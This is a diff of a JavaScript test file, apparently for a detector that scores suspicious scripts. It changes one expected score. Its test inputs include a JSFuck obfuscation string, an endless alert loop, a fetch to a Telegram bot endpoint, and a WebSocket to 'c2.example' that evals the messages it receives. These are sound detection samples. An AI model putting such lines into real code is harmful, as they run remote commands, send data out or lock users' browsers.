@@ -162,7 +162,7 @@ describe('the scripts', () => {
     ],
     ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'JSFuck', 40],
     ['endless dialogs', 'while(true){alert("locked")}', 'endless dialogs', 50],
-    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 40],
+    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 28],
     [
       'code from a WebSocket',
       'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
